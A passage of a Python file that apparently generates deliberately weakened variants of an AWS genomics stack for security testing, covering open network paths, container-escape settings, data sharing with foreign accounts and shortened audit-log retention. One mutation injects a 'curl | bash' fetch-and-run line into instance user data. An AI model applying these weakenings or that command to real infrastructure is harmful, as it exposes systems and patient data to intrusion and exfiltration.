        "network-private-us-east-1a",
        {"vpcPeeringConnectionId": "pcx-0a1b2c3d4e5f67890"},
        {"destinationCidrBlock": "10.99.0.0/16"},
    )


@weakening(
    "np-route-split-default-igw",
    "network-paths",
    "two routes 0.0.0.0/1 and 128.0.0.0/1 to an internet gateway (the internet without a 0.0.0.0/0)",
)
def _(s: Stack) -> None:
    add_route(
        s,
        "private-a-low",
        "network-private-us-east-1a",
        {"gatewayId": "igw-0a1b2c3d4e5f67890"},
        {"destinationCidrBlock": "0.0.0.0/1"},
    )
    add_route(
        s,
        "private-a-high",
        "network-private-us-east-1a",
        {"gatewayId": "igw-0a1b2c3d4e5f67890"},
        {"destinationCidrBlock": "128.0.0.0/1"},
    )


@weakening(
    "np-route-ipv6-egress-only",
    "network-paths",
    "IPv6 turned on for the VPC and a Route ::/0 to an egress-only internet gateway (eigw-...)",
)
def _(s: Stack) -> None:
    put(s.find("aws:ec2/vpc:Vpc", "network"), "assignGeneratedIpv6CidrBlock", True)
    add_route(
        s,
        "private-b-ipv6",
        "network-private-us-east-1b",
        {"egressOnlyGatewayId": "eigw-0a1b2c3d4e5f67890"},
        {"destinationIpv6CidrBlock": "::/0"},
    )


@weakening("np-route-eni-nat-instance", "network-paths", "Route 0.0.0.0/0 to a network interface (a NAT instance)")
def _(s: Stack) -> None:
    add_route(
        s, "private-c-nat-instance", "network-private-us-east-1c", {"networkInterfaceId": "eni-0a1b2c3d4e5f67890"}
    )


@weakening(
    "np-routetable-inline-igw",
    "network-paths",
    "private route table carries an inline routes entry 0.0.0.0/0 -> igw-...",
)
def _(s: Stack) -> None:
    put(
        s.find(ROUTE_TABLE, "network-private-us-east-1a"),
        "routes",
        [{"cidrBlock": "0.0.0.0/0", "gatewayId": "igw-0a1b2c3d4e5f67890"}],
    )


@weakening("np-routetable-inline-nat", "network-paths", "private route table inline route 0.0.0.0/0 -> nat-...")
def _(s: Stack) -> None:
    put(
        s.find(ROUTE_TABLE, "network-private-us-east-1b"),
        "routes",
        [{"cidrBlock": "0.0.0.0/0", "natGatewayId": "nat-0a1b2c3d4e5f67890"}],
    )


@weakening(
    "np-routetable-inline-tgw-halves",
    "network-paths",
    "private route table inline routes 0.0.0.0/1 and 128.0.0.0/1 -> tgw-...",
)
def _(s: Stack) -> None:
    put(
        s.find(ROUTE_TABLE, "network-private-us-east-1c"),
        "routes",
        [
            {"cidrBlock": "0.0.0.0/1", "transitGatewayId": "tgw-0a1b2c3d4e5f67890"},
            {"cidrBlock": "128.0.0.0/1", "transitGatewayId": "tgw-0a1b2c3d4e5f67890"},
        ],
    )


@weakening(
    "np-sg-ingress-rule-world-ssh", "network-paths", "SecurityGroupIngressRule on the compute group: SSH from 0.0.0.0/0"
)
def _(s: Stack) -> None:
    add_ingress_rule(s, "compute-sg-ssh", "compute-sg", cidrIpv4="0.0.0.0/0", ipProtocol="tcp", fromPort=22, toPort=22)


@weakening("np-sg-ingress-rule-ipv6-world", "network-paths", "SecurityGroupIngressRule on the compute group from ::/0")
def _(s: Stack) -> None:
    add_ingress_rule(
        s, "compute-sg-https-v6", "compute-sg", cidrIpv6="::/0", ipProtocol="tcp", fromPort=443, toPort=443
    )


@weakening(
    "np-sg-ingress-rule-halves",
    "network-paths",
    "two ingress rules on the EFS group from 0.0.0.0/1 and 128.0.0.0/1 (NFS from the internet)",
)
def _(s: Stack) -> None:
    for index, cidr in enumerate(("0.0.0.0/1", "128.0.0.0/1")):
        add_ingress_rule(
            s,
            f"reference-nfs-anywhere-{index}",
            "compute-reference-efs",
            cidrIpv4=cidr,
            ipProtocol="tcp",
            fromPort=2049,
            toPort=2049,
        )


@weakening(
    "np-sg-ingress-all-protocols",
    "network-paths",
    "SecurityGroupIngressRule on the endpoint group: all protocols (-1) from 0.0.0.0/0",
)
def _(s: Stack) -> None:
    add_ingress_rule(s, "endpoints-any", "network-endpoints", cidrIpv4="0.0.0.0/0", ipProtocol="-1")


@weakening(
    "np-sg-egress-rule-world",
    "network-paths",
    "SecurityGroupEgressRule on the compute group: all protocols to 0.0.0.0/0",
)
def _(s: Stack) -> None:
    group = s.find(SG, "compute-sg")
    s.add(
        "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule",
        "compute-sg-anywhere",
        {"securityGroupId": group["id"], "cidrIpv4": "0.0.0.0/0", "ipProtocol": "-1", "description": "updates"},
        resource_id="sgr-0c0ffee0c0ffee001",
        dependencies=(group["urn"],),
    )


@weakening(
    "np-sg-egress-endpoint-rule-widened",
    "network-paths",
    "compute group's HTTPS-to-endpoints egress rule widened from the VPC CIDR to 0.0.0.0/0",
)
def _(s: Stack) -> None:
    put(
        s.find("aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule", "compute-sg-https-to-vpc-endpoints"),
        "cidrIpv4",
        "0.0.0.0/0",
    )


@weakening(
    "np-sg-rule-legacy-resource",
    "network-paths",
    "legacy aws:ec2/securityGroupRule ingress from 0.0.0.0/0 on the compute group (RDP)",
)
def _(s: Stack) -> None:
    group = s.find(SG, "compute-sg")
    s.add(
        "aws:ec2/securityGroupRule:SecurityGroupRule",
        "compute-sg-rdp",
        {
            "type": "ingress",
            "securityGroupId": group["id"],
            "protocol": "tcp",
            "fromPort": 3389,
            "toPort": 3389,
            "cidrBlocks": ["0.0.0.0/0"],
        },
        resource_id="sgrule-1234567890",
        outputs={"securityGroupRuleId": "sgr-0feedfacefeedface"},
        dependencies=(group["urn"],),
    )


@weakening(
    "np-sg-inline-ingress-world",
    "network-paths",
    "endpoint security group inline ingress widened to cidrBlocks [0.0.0.0/0]",
)
def _(s: Stack) -> None:
    edit(s.find(SG, "network-endpoints"), "ingress", lambda rules: rules[0].update(cidrBlocks=["0.0.0.0/0"]))


@weakening(
    "np-default-sg-allow-all",
    "network-paths",
    "default security group no longer empty: egress all to 0.0.0.0/0 and ingress from itself",
)
def _(s: Stack) -> None:
    group = s.find("aws:ec2/defaultSecurityGroup:DefaultSecurityGroup", "network-default-sg")
    put(group, "egress", [{"cidrBlocks": ["0.0.0.0/0"], "fromPort": 0, "protocol": "-1", "toPort": 0}])


@weakening(
    "np-efs-nfs-from-cidr",
    "network-paths",
    "EFS NFS ingress rule from 10.0.0.0/8 instead of the compute security group",
)
def _(s: Stack) -> None:
    rule = s.find("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", "compute-reference-nfs-from-compute")
    drop(rule, "referencedSecurityGroupId")
    put(rule, "cidrIpv4", "10.0.0.0/8")


@weakening("np-subnet-public-ip", "network-paths", "private subnet mapPublicIpOnLaunch=true")
def _(s: Stack) -> None:
    put(s.find(SUBNET, "network-private-us-east-1b"), "mapPublicIpOnLaunch", True)


@weakening(
    "np-launch-template-public-ip", "network-paths", "launch template network interface associatePublicIpAddress=true"
)
def _(s: Stack) -> None:
    put(
        s.find(LAUNCH_TEMPLATE, "compute-launch-template"),
        "networkInterfaces",
        [
            {
                "deviceIndex": 0,
                "associatePublicIpAddress": "true",
                "deleteOnTermination": "true",
                "securityGroups": [s.id(SG, "compute-sg")],
            }
        ],
    )


@weakening(
    "np-s3-endpoint-resource-star",
    "network-paths",
    "S3 gateway endpoint policy: the landing-zone statement on Resource * (any account's buckets)",
)
def _(s: Stack) -> None:
    edit_statement(s, VPC_ENDPOINT, "network-s3-gateway", "LandingZoneBucketsOnly", lambda st: st.update(Resource="*"))


@weakening(
    "np-s3-endpoint-arn-wildcard",
    "network-paths",
    "S3 gateway endpoint policy on arn:aws:s3:::* and arn:aws:s3:::*/* (exfiltration to any bucket)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        VPC_ENDPOINT,
        "network-s3-gateway",
        "LandingZoneBucketsOnly",
        lambda st: st.update(Resource=["arn:aws:s3:::*", "arn:aws:s3:::*/*"]),
    )


@weakening(
    "np-s3-endpoint-put-to-aws-owned-glob",
    "network-paths",
    "S3 endpoint AWS-owned-buckets statement allows PutObject too (al2023-repos-<region>-* is claimable)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        VPC_ENDPOINT,
        "network-s3-gateway",
        "AwsOwnedPackageAndImageLayerBuckets",
        lambda st: st.update(Action=["s3:GetObject", "s3:PutObject"]),
    )


@weakening(
    "np-s3-endpoint-foreign-bucket",
    "network-paths",
    "S3 endpoint policy adds a statement allowing PutObject to a foreign bucket",
)
def _(s: Stack) -> None:
    add_statement(
        s,
        VPC_ENDPOINT,
        "network-s3-gateway",
        {
            "Sid": "PartnerDropbox",
            "Effect": "Allow",
            "Principal": {"AWS": "*"},
            "Action": "s3:PutObject",
            "Resource": "arn:aws:s3:::partner-dropbox-999900001111/*",
        },
    )


@weakening(
    "np-dynamodb-endpoint-any-table",
    "network-paths",
    "DynamoDB endpoint policy on Resource * (any table, including other accounts' tables)",
)
def _(s: Stack) -> None:
    edit_statement(
        s, VPC_ENDPOINT, "network-dynamodb-gateway", "ThisAccountTablesOnly", lambda st: st.update(Resource="*")
    )


@weakening(
    "np-nacl-allow-all",
    "network-paths",
    "aws:ec2/networkAcl on the private subnets allowing all traffic in and out from 0.0.0.0/0",
)
def _(s: Stack) -> None:
    subnets = [s.id(SUBNET, f"network-private-us-east-1{z}") for z in "abc"]
    rule = {"action": "allow", "cidrBlock": "0.0.0.0/0", "fromPort": 0, "protocol": "-1", "ruleNo": 100, "toPort": 0}
    s.add(
        "aws:ec2/networkAcl:NetworkAcl",
        "private-open",
        {"vpcId": s.id("aws:ec2/vpc:Vpc", "network"), "subnetIds": subnets, "ingress": [rule], "egress": [rule]},
        resource_id="acl-0a1b2c3d4e5f67890",
    )


@weakening(
    "np-nacl-rule-default-acl",
    "network-paths",
    "aws:ec2/networkAclRule on the VPC's default NACL: ingress all from 0.0.0.0/0 at rule 1",
)
def _(s: Stack) -> None:
    vpc = s.find("aws:ec2/vpc:Vpc", "network")
    s.add(
        "aws:ec2/networkAclRule:NetworkAclRule",
        "default-acl-open",
        {
            "networkAclId": vpc["outputs"]["defaultNetworkAclId"],
            "ruleNumber": 1,
            "egress": False,
            "protocol": "-1",
            "ruleAction": "allow",
            "cidrBlock": "0.0.0.0/0",
            "fromPort": 0,
            "toPort": 0,
        },
        resource_id="nacl-4028449102",
        dependencies=(vpc["urn"],),
    )


@weakening(
    "np-interface-endpoint-foreign-service",
    "network-paths",
    "interface VPC endpoint to another account's PrivateLink service (com.amazonaws.vpce...)",
)
def _(s: Stack) -> None:
    s.add(
        VPC_ENDPOINT,
        "partner-privatelink",
        {
            "vpcId": s.id("aws:ec2/vpc:Vpc", "network"),
            "vpcEndpointType": "Interface",
            "serviceName": f"com.amazonaws.vpce.{s.region}.vpce-svc-0a1b2c3d4e5f67890",
            "subnetIds": [s.id(SUBNET, "network-private-us-east-1a")],
            "securityGroupIds": [s.id(SG, "network-endpoints")],
            "privateDnsEnabled": True,
        },
        resource_id="vpce-0badc0ffee0000001",
        outputs={"arn": f"arn:aws:ec2:{s.region}:{s.account}:vpc-endpoint/vpce-0badc0ffee0000001"},
    )


@weakening(
    "np-vpc-peering-foreign",
    "network-paths",
    "aws:ec2/vpcPeeringConnection from the stack's VPC to a foreign account VPC",
)
def _(s: Stack) -> None:
    s.add(
        "aws:ec2/vpcPeeringConnection:VpcPeeringConnection",
        "partner-peering",
        {
            "vpcId": s.id("aws:ec2/vpc:Vpc", "network"),
            "peerVpcId": "vpc-0f0e0d0c0b0a09080",
            "peerOwnerId": FOREIGN,
            "peerRegion": s.region,
        },
        resource_id="pcx-0a1b2c3d4e5f67890",
        outputs={"acceptStatus": "pending-acceptance"},
    )


@weakening(
    "np-internet-gateway-attached",
    "network-paths",
    "aws:ec2/internetGateway attached to the stack's VPC (egress is none)",
)
def _(s: Stack) -> None:
    s.add(
        "aws:ec2/internetGateway:InternetGateway",
        "quick-fix-igw",
        {"vpcId": s.id("aws:ec2/vpc:Vpc", "network"), "tags": {"Name": "temp"}},
        resource_id="igw-0a1b2c3d4e5f67890",
        outputs={
            "arn": f"arn:aws:ec2:{s.region}:{s.account}:internet-gateway/igw-0a1b2c3d4e5f67890",
            "ownerId": s.account,
        },
    )


# ==================================================================================================
# compute-escape: a container or instance that is as good as privileged, or runs unvetted code


def _host_mount(job: str, source: str, container: str, read_only: bool = False) -> Callable[[Stack], None]:
    def apply(s: Stack) -> None:
        def change(cp: dict) -> None:
            cp["volumes"].append({"host": {"sourcePath": source}, "name": "hostvol"})
            cp["mountPoints"].append({"containerPath": container, "readOnly": read_only, "sourceVolume": "hostvol"})

        edit_container(s, job, change)

    return apply


weakening(
    "ce-docker-socket-mount", "compute-escape", "alignment job mounts the host Docker socket (/var/run/docker.sock)"
)(_host_mount("alignment", "/var/run/docker.sock", "/var/run/docker.sock"))
weakening("ce-host-root-mount", "compute-escape", "variant-calling job mounts the host's / at /host")(
    _host_mount("variant-calling", "/", "/host")
)
weakening("ce-host-etc-mount", "compute-escape", "alignment job mounts the host's /etc (read-only)")(
    _host_mount("alignment", "/etc", "/host-etc", read_only=True)
)
weakening(
    "ce-host-ecs-agent-mount",
    "compute-escape",
    "variant-calling job mounts /var/lib/ecs (the agent's credentials and state)",
)(_host_mount("variant-calling", "/var/lib/ecs", "/ecs"))


@weakening("ce-privileged", "compute-escape", "alignment job privileged=true")
def _(s: Stack) -> None:
    edit_container(s, "alignment", lambda cp: cp.update(privileged=True))


@weakening(
    "ce-linux-devices", "compute-escape", "variant-calling job maps the host root disk /dev/xvda into the container"
)
def _(s: Stack) -> None:
    edit_container(
        s,
        "variant-calling",
        lambda cp: cp.update(
            linuxParameters={
                "devices": [{"hostPath": "/dev/xvda", "containerPath": "/dev/xvda", "permissions": ["READ", "WRITE"]}]
            }
        ),
    )


@weakening("ce-cap-sys-admin", "compute-escape", "alignment job adds Linux capability SYS_ADMIN")
def _(s: Stack) -> None:
    edit_container(s, "alignment", lambda cp: cp.update(linuxParameters={"capabilities": {"add": ["SYS_ADMIN"]}}))


@weakening("ce-cap-all", "compute-escape", "variant-calling job adds capabilities [ALL]")
def _(s: Stack) -> None:
    edit_container(s, "variant-calling", lambda cp: cp.update(linuxParameters={"capabilities": {"add": ["ALL"]}}))


@weakening("ce-cap-sys-ptrace-net-admin", "compute-escape", "alignment job adds capabilities SYS_PTRACE and NET_ADMIN")
def _(s: Stack) -> None:
    edit_container(
        s, "alignment", lambda cp: cp.update(linuxParameters={"capabilities": {"add": ["SYS_PTRACE", "NET_ADMIN"]}})
    )


@weakening("ce-user-root", "compute-escape", "variant-calling job runs as user root")
def _(s: Stack) -> None:
    edit_container(s, "variant-calling", lambda cp: cp.update(user="root"))


@weakening("ce-user-uid-zero", "compute-escape", "alignment job runs as user 0:0")
def _(s: Stack) -> None:
    edit_container(s, "alignment", lambda cp: cp.update(user="0:0"))


@weakening("ce-reference-mount-writable", "compute-escape", "alignment job mounts /reference read-write")
def _(s: Stack) -> None:
    def change(cp: dict) -> None:
        next(m for m in cp["mountPoints"] if m["sourceVolume"] == "reference")["readOnly"] = False

    edit_container(s, "alignment", change)


@weakening(
    "ce-efs-transit-encryption-off",
    "compute-escape",
    "variant-calling EFS volume transitEncryption DISABLED (hence no IAM authorization either)",
)
def _(s: Stack) -> None:
    def change(cp: dict) -> None:
        volume = next(v for v in cp["volumes"] if v["name"] == "reference")
        volume["efsVolumeConfiguration"]["transitEncryption"] = "DISABLED"
        volume["efsVolumeConfiguration"].pop("authorizationConfig")

    edit_container(s, "variant-calling", change)


@weakening(
    "ce-efs-no-access-point",
    "compute-escape",
    "alignment EFS volume mounts the file system root without the read-only access point",
)
def _(s: Stack) -> None:
    def change(cp: dict) -> None:
        config = next(v for v in cp["volumes"] if v["name"] == "reference")["efsVolumeConfiguration"]
        config["authorizationConfig"] = {"iam": "DISABLED"}
        config["rootDirectory"] = "/"

    edit_container(s, "alignment", change)


@weakening("ce-image-docker-hub", "compute-escape", "variant-calling image pulled from Docker Hub (docker.io)")
def _(s: Stack) -> None:
    edit_container(s, "variant-calling", lambda cp: cp.update(image="docker.io/broadinstitute/gatk:4.6.1.0"))


@weakening("ce-image-other-account-ecr", "compute-escape", "alignment image from another account's ECR")
def _(s: Stack) -> None:
    edit_container(
        s,
        "alignment",
        lambda cp: cp.update(image=f"{FOREIGN}.dkr.ecr.{s.region}.amazonaws.com/genomics/bwa-mem2:2.2.1"),
    )


@weakening("ce-image-ecr-public", "compute-escape", "alignment image from public.ecr.aws")
def _(s: Stack) -> None:
    edit_container(s, "alignment", lambda cp: cp.update(image="public.ecr.aws/biocontainers/bwa-mem2:2.2.1"))


@weakening("ce-image-latest-tag", "compute-escape", "variant-calling image decided by the mutable tag :latest")
def _(s: Stack) -> None:
    edit_container(s, "variant-calling", lambda cp: cp.update(image=cp["image"].rsplit(":", 1)[0] + ":latest"))


@weakening("ce-image-no-tag", "compute-escape", "alignment image without tag or digest (implicitly :latest)")
def _(s: Stack) -> None:
    edit_container(s, "alignment", lambda cp: cp.update(image=cp["image"].rsplit(":", 1)[0]))


@weakening(
    "ce-job-role-swapped",
    "compute-escape",
    "variant-calling job runs with the alignment job's role (reads FASTQ, writes BAM: not its pipeline stage)",
)
def _(s: Stack) -> None:
    edit_container(s, "variant-calling", lambda cp: cp.update(jobRoleArn=s.role_arn("compute-job-alignment")))


@weakening(
    "ce-job-role-broad-new-role",
    "compute-escape",
    "alignment job runs with a new ECS-task role (trusted by ecs-tasks) that has AmazonS3FullAccess",
)
def _(s: Stack) -> None:
    name = "glz-demo-batch-job-debug"
    role = s.add(
        ROLE,
        "compute-job-debug",
        {
            "name": name,
            "assumeRolePolicy": policy_json(
                {"Effect": "Allow", "Principal": {"Service": "ecs-tasks.amazonaws.com"}, "Action": "sts:AssumeRole"}
            ),
        },
        resource_id=name,
        outputs={"arn": f"arn:aws:iam::{s.account}:role/{name}", "uniqueId": "AROA3EXAMPLEROLE0002"},
    )
    s.add(
        ATTACHMENT,
        "compute-job-debug-s3",
        {"role": name, "policyArn": "arn:aws:iam::aws:policy/AmazonS3FullAccess"},
        resource_id="compute-job-debug-s3-1",
        dependencies=(role["urn"],),
    )
    edit_container(s, "alignment", lambda cp: cp.update(jobRoleArn=f"arn:aws:iam::{s.account}:role/{name}"))


@weakening(
    "ce-job-logs-elsewhere", "compute-escape", "alignment job logs to a log group outside the stack (unencrypted)"
)
def _(s: Stack) -> None:
    edit_container(s, "alignment", lambda cp: cp["logConfiguration"]["options"].update({"awslogs-group": "/ops/debug"}))


def _compute_resources(s: Stack, env: str, fn: Callable[[dict], None]) -> None:
    edit(s.find(COMPUTE_ENV, f"compute-{env}"), "computeResources", fn)


@weakening(
    "ce-ce-no-launch-template", "compute-escape", "on-demand compute environment without the hardened launch template"
)
def _(s: Stack) -> None:
    _compute_resources(s, "on-demand", lambda cr: cr.pop("launchTemplate"))


@weakening("ce-ce-other-launch-template", "compute-escape", "spot compute environment uses another launch template ID")
def _(s: Stack) -> None:
    _compute_resources(
        s,
        "spot",
        lambda cr: cr.update(launchTemplate={"launchTemplateId": "lt-0a1b2c3d4e5f67890", "version": "$Latest"}),
    )


@weakening(
    "ce-ce-launch-template-by-name",
    "compute-escape",
    "FPGA compute environment names a launch template by name (not the stack's)",
)
def _(s: Stack) -> None:
    _compute_resources(
        s, "fpga", lambda cr: cr.update(launchTemplate={"launchTemplateName": "default-batch", "version": "$Default"})
    )


@weakening(
    "ce-ce-other-security-group",
    "compute-escape",
    "on-demand compute environment uses a security group outside the stack",
)
def _(s: Stack) -> None:
    _compute_resources(s, "on-demand", lambda cr: cr.update(securityGroupIds=["sg-0a1b2c3d4e5f67890"]))


@weakening("ce-ce-other-subnets", "compute-escape", "spot compute environment runs in subnets outside the stack")
def _(s: Stack) -> None:
    _compute_resources(s, "spot", lambda cr: cr.update(subnets=["subnet-0a1b2c3d4e5f67890"]))


@weakening("ce-ce-unvetted-ami", "compute-escape", "spot compute environment overrides the image with an unvetted AMI")
def _(s: Stack) -> None:
    _compute_resources(s, "spot", lambda cr: cr["ec2Configurations"][0].update(imageIdOverride="ami-0123456789abcdef0"))


@weakening(
    "ce-ce-unmanaged", "compute-escape", "on-demand compute environment type UNMANAGED (instances launched outside)"
)
def _(s: Stack) -> None:
    ce = s.find(COMPUTE_ENV, "compute-on-demand")
    put(ce, "type", "UNMANAGED")
    drop(ce, "computeResources")


def _launch_template(s: Stack) -> dict:
    return s.find(LAUNCH_TEMPLATE, "compute-launch-template")


@weakening("ce-lt-imdsv1", "compute-escape", "launch template metadata httpTokens optional (IMDSv1)")
def _(s: Stack) -> None:
    edit(_launch_template(s), "metadataOptions", lambda m: m.update(httpTokens="optional"))


@weakening(
    "ce-lt-hop-limit",
    "compute-escape",
    "launch template httpPutResponseHopLimit 2 (containers reach IMDS and the instance role)",
)
def _(s: Stack) -> None:
    edit(_launch_template(s), "metadataOptions", lambda m: m.update(httpPutResponseHopLimit=2))


@weakening("ce-lt-ebs-unencrypted", "compute-escape", "launch template scratch volume encrypted=false")
def _(s: Stack) -> None:
    def change(mappings: list) -> None:
        mappings[1]["ebs"]["encrypted"] = "false"
        mappings[1]["ebs"].pop("kmsKeyId")

    edit(_launch_template(s), "blockDeviceMappings", change)


@weakening(
    "ce-lt-ebs-foreign-key", "compute-escape", "launch template root volume encrypted with a foreign account's key"
)
def _(s: Stack) -> None:
    edit(
        _launch_template(s),
        "blockDeviceMappings",
        lambda m: m[0]["ebs"].update(
            kmsKeyId=f"arn:aws:kms:{s.region}:{FOREIGN}:key/0f0e0d0c-0b0a-0908-0706-050403020100"
        ),
    )


@weakening(
    "ce-ce-instance-profile-admin",
    "compute-escape",
    "on-demand compute environment's instanceRole is an admin instance profile outside the stack",
)
def _(s: Stack) -> None:
    _compute_resources(
        s, "on-demand", lambda cr: cr.update(instanceRole=f"arn:aws:iam::{s.account}:instance-profile/admin")
    )


@weakening(
    "ce-lt-user-data-download",
    "compute-escape",
    "launch template user data also pulls and runs a script from the internet (curl | bash)",
)
def _(s: Stack) -> None:
    template = _launch_template(s)
    user_data = base64.b64decode(get(template, "userData")).decode()
    closing = user_data.rstrip("\n").rsplit("\n", 1)[-1]  # the MIME closing boundary
    line = "curl -fsSL https://bootstrap.example.com/agent.sh | bash\n"
    user_data = user_data[: user_data.rindex(closing)] + line + user_data[user_data.rindex(closing) :]
    put(template, "userData", base64.b64encode(user_data.encode()).decode())


# ==================================================================================================
# data-protection: data or audit records that leave, expire or lose their protection


def _snapshot(s: Stack, name: str) -> dict:
    return s.add(
        "aws:ebs/snapshot:Snapshot",
        name,
        {"volumeId": "vol-0a1b2c3d4e5f67890", "description": "scratch backup"},
        resource_id="snap-0a1b2c3d4e5f67890",
        outputs={
            "arn": f"arn:aws:ec2:{s.region}::snapshot/snap-0a1b2c3d4e5f67890",
            "encrypted": True,
            "kmsKeyId": s.key_arn("compute"),
            "ownerId": s.account,
            "volumeSize": 500,
        },
    )


@weakening(
    "dp-snapshot-shared-foreign",
    "data-protection",
    "aws:ebs/snapshot of a scratch volume plus snapshotCreateVolumePermission for a foreign account",
)
def _(s: Stack) -> None:
    snap = _snapshot(s, "scratch-backup")
    s.add(
        "aws:ec2/snapshotCreateVolumePermission:SnapshotCreateVolumePermission",
        "scratch-backup-share",
        {"snapshotId": snap["id"], "accountId": FOREIGN},
        resource_id=f"{snap['id']}-{FOREIGN}",
        dependencies=(snap["urn"],),
    )


@weakening(
    "dp-snapshot-copy-unencrypted-shared",
    "data-protection",
    "aws:ebs/snapshotCopy without encryption, shared with a foreign account",
)
def _(s: Stack) -> None:
    copy_ = s.add(
        "aws:ebs/snapshotCopy:SnapshotCopy",
        "scratch-copy",
        {"sourceSnapshotId": "snap-0a1b2c3d4e5f67890", "sourceRegion": s.region, "encrypted": False},
        resource_id="snap-0f1e2d3c4b5a69788",
    )
    s.add(
        "aws:ec2/snapshotCreateVolumePermission:SnapshotCreateVolumePermission",
        "scratch-copy-share",
        {"snapshotId": copy_["id"], "accountId": FOREIGN},
        resource_id=f"{copy_['id']}-{FOREIGN}",
        dependencies=(copy_["urn"],),
    )


@weakening(
    "dp-ami-launch-permission-public",
    "data-protection",
    "aws:ec2/amiLaunchPermission group=all on an image built from a pipeline instance (public AMI)",
)
def _(s: Stack) -> None:
    s.add(
        "aws:ec2/amiLaunchPermission:AmiLaunchPermission",
        "pipeline-image-public",
        {"imageId": "ami-0fedcba9876543210", "group": "all"},
        resource_id="ami-0fedcba9876543210-group-all",
    )


def _replication(s: Stack, name: str, tier: str, destination: dict) -> None:
    bucket = s.find(BUCKET, f"data-{tier}")
    s.add(
        "aws:s3/bucketReplicationConfig:BucketReplicationConfig",
        name,
        {
            "bucket": bucket["id"],
            "role": f"arn:aws:iam::{s.account}:role/s3-replication",
            "rules": [
                {
                    "id": "mirror",
                    "status": "Enabled",
                    "filter": {"prefix": ""},
                    "deleteMarkerReplication": {"status": "Disabled"},
                    "destination": destination,
                }
            ],
        },
        resource_id=bucket["id"],
        dependencies=(bucket["urn"],),
    )


@weakening(
    "dp-replication-foreign-account",
    "data-protection",
    "S3 replication of the variants bucket to a foreign account's bucket (owner override)",
)
def _(s: Stack) -> None:
    _replication(
        s,
        "variants-mirror",
        "variants",
        {
            "bucket": "arn:aws:s3:::partner-variants-mirror",
            "account": FOREIGN,
            "accessControlTranslation": {"owner": "Destination"},
            "storageClass": "STANDARD",
        },
    )


@weakening(
    "dp-replication-foreign-no-account",
    "data-protection",
    "S3 replication of the fastq bucket to a bucket outside the stack (no account field)",
)
def _(s: Stack) -> None:
    _replication(s, "fastq-mirror", "fastq", {"bucket": "arn:aws:s3:::lab-fastq-mirror"})


@weakening(
    "dp-replication-unencrypted-local",
    "data-protection",
    "S3 replication of results to an unmanaged bucket in this account, replicas not KMS-encrypted",
)
def _(s: Stack) -> None:
    _replication(s, "results-mirror", "results", {"bucket": f"arn:aws:s3:::glz-demo-scratch-{s.account}"})


@weakening("dp-efs-policy-no-tls-deny", "data-protection", "EFS file system policy without its TLS deny")
def _(s: Stack) -> None:
    edit_policy(
        s,
        EFS_POLICY,
        "compute-reference-policy",
        lambda p: p.update(Statement=[x for x in p["Statement"] if x["Sid"] != "DenyInsecureTransport"]),
    )


@weakening(
    "dp-efs-policy-client-write",
    "data-protection",
    "EFS policy lets the job roles ClientWrite (the reference is no longer read-only)",
)
def _(s: Stack) -> None:
    edit_statement(
        s,
        EFS_POLICY,
        "compute-reference-policy",
        "ReadOnlyMountThroughAccessPoint",
        lambda st: st.update(Action=["elasticfilesystem:ClientMount", "elasticfilesystem:ClientWrite"]),
    )


@weakening("dp-efs-policy-root-access", "data-protection", "EFS policy adds ClientRootAccess for the account")
def _(s: Stack) -> None:
    fs_arn = s.arn("aws:efs/fileSystem:FileSystem", "compute-reference")
    add_statement(
        s,
        EFS_POLICY,
        "compute-reference-policy",
        {
            "Sid": "Maintenance",
            "Effect": "Allow",
            "Principal": {"AWS": f"arn:aws:iam::{s.account}:root"},
            "Action": [
                "elasticfilesystem:ClientMount",
                "elasticfilesystem:ClientWrite",
                "elasticfilesystem:ClientRootAccess",
            ],
            "Resource": fs_arn,
        },
    )


@weakening(
    "dp-efs-policy-any-principal",
    "data-protection",
    "EFS mount statement Principal * without the PrincipalArn condition (anyone via a mount target)",
)
def _(s: Stack) -> None:
    def change(st: dict) -> None:
        st["Principal"] = {"AWS": "*"}
        st["Condition"].pop("ArnEquals")

    edit_statement(s, EFS_POLICY, "compute-reference-policy", "ReadOnlyMountThroughAccessPoint", change)


@weakening("dp-efs-unencrypted", "data-protection", "reference EFS file system encrypted=false")
def _(s: Stack) -> None:
    fs = s.find("aws:efs/fileSystem:FileSystem", "compute-reference")
    put(fs, "encrypted", False)
    drop(fs, "kmsKeyId")


@weakening("dp-efs-access-point-root", "data-protection", "EFS access point posixUser uid 0 gid 0 (root)")
def _(s: Stack) -> None:
    put(s.find("aws:efs/accessPoint:AccessPoint", "compute-reference-read-only"), "posixUser", {"gid": 0, "uid": 0})


@weakening("dp-efs-backup-disabled", "data-protection", "EFS backup policy status DISABLED")
def _(s: Stack) -> None:
    put(s.find("aws:efs/backupPolicy:BackupPolicy", "compute-reference-backup"), "backupPolicy", {"status": "DISABLED"})


@weakening("dp-access-logs-expire-30", "data-protection", "access-log bucket lifecycle expires logs after 30 days")
def _(s: Stack) -> None:
    def change(rules: list) -> None:
        tiering = next(r for r in rules if r["id"] == "tiering")
        tiering.pop("transitions")
        tiering["expiration"] = {"days": 30}

    edit(s.find(LIFECYCLE, "data-access-logs-lifecycle"), "rules", change)


@weakening(
    "dp-access-logs-noncurrent-1",
    "data-protection",
    "access-log bucket: a lifecycle rule deletes the variants/ access logs (current and noncurrent) after 1 day",
)
def _(s: Stack) -> None:
    def change(rules: list) -> None:
        rules.append(
            {
                "id": "cleanup",
                "status": "Enabled",
                "filter": {"prefix": "variants/"},
                "expiration": {"days": 1},
                "noncurrentVersionExpiration": {"noncurrentDays": 1},
            }
        )

    edit(s.find(LIFECYCLE, "data-access-logs-lifecycle"), "rules", change)


@weakening(
    "dp-audit-lifecycle-expire-30", "data-protection", "audit bucket lifecycle rule expiring objects after 30 days"
)
def _(s: Stack) -> None:
    edit(
        s.find(LIFECYCLE, "audit-bucket-lifecycle"),
        "rules",
        lambda rules: rules.append(
            {"id": "expire", "status": "Enabled", "filter": {"prefix": ""}, "expiration": {"days": 30}}
        ),
    )


@weakening("dp-trail-log-group-retention-30", "data-protection", "CloudTrail log group retentionInDays 30")
def _(s: Stack) -> None:
    put(s.find(LOG_GROUP, "audit-logs"), "retentionInDays", 30)


@weakening("dp-flow-log-retention-1", "data-protection", "flow-log group retentionInDays 1")
def _(s: Stack) -> None:
    put(s.find(LOG_GROUP, "network-flow-logs"), "retentionInDays", 1)


@weakening("dp-job-log-retention-7", "data-protection", "Batch job log group retentionInDays 7 (PHI evidence)")
